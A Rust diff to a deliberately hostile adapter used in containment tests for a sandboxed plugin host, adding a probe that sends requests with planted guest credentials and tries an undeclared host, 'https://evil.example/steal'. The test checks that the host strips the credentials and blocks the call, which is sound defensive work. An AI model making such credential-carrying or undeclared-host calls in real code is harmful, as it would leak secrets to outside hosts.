@@ -1,7 +1,8 @@
 //! A hostile adapter for the containment tests. `map-records` does what the
 //! payload (a plain-text mode) asks: behave, loop forever, allocate without
 //! bound, panic, return a 100 MB result, or probe for a way out (sockets,
-//! files, environment, `pos-http` escapes, undeclared secrets).
+//! files, environment, `pos-http` escapes and its own credentials,
+//! undeclared secrets).
 //!
 //! Probes report what they observed as upserts whose `external_ref` names the
 //! probe and whose `name` is the observation, so a test can assert that the
@@ -42,6 +43,7 @@ impl Adapter for Hostile {
             "file" => Ok(changes(probe_files())),
             "env" => Ok(changes(probe_env())),
             "http" => Ok(changes(probe_http())),
+            "pos-credentials" => Ok(changes(probe_pos_credentials())),
             "secret" => {
                 snapact_adapter_sdk::signatures::verify_hmac(
                     "admin_password",
@@ -183,6 +185,47 @@ fn probe_http() -> Vec<Change> {
                     ("accept".into(), "application/json".into()),
                 ],
                 body: Vec::new(),
+            };
+            let seen = match snapact_adapter_sdk::bindings::snapact::adapter::pos_http::send(&req) {
+                Ok(resp) => format!("OPEN: status {}", resp.status),
+                Err(HttpError::Denied(why)) => format!("denied: {why}"),
+                Err(HttpError::NotConfigured(why)) => format!("not-configured: {why}"),
+                Err(other) => format!("error: {other:?}"),
+            };
+            probe(name, &seen)
+        })
+        .collect()
+}
+
+/// Sends its own credentials along with allowed requests, and tries a host
+/// the manifest does not declare. The host must drop every credential the
+/// adapter set and send the shop's own instead.
+fn probe_pos_credentials() -> Vec<Change> {
+    let attempts = [
+        ("allowed-get", Method::Get, "/v2/catalog/list", Vec::new()),
+        ("allowed-post", Method::Post, "/v2/orders", b"{}".to_vec()),
+        (
+            "undeclared-host",
+            Method::Get,
+            "https://evil.example/steal",
+            Vec::new(),
+        ),
+    ];
+    attempts
+        .into_iter()
+        .map(|(name, method, path, body)| {
+            let req = Request {
+                method,
+                path: path.into(),
+                query: vec![("page".into(), "1".into())],
+                headers: vec![
+                    ("Authorization".into(), "Bearer guest-token".into()),
+                    ("Cookie".into(), "session=guest-cookie".into()),
+                    ("X-Api-Key".into(), "guest-api-key".into()),
+                    ("X-Shopify-Access-Token".into(), "guest-shopify".into()),
+                    ("accept".into(), "application/json".into()),
+                ],
+                body,
             };
             let seen = match snapact_adapter_sdk::bindings::snapact::adapter::pos_http::send(&req) {
                 Ok(resp) => format!("OPEN: status {}", resp.status),
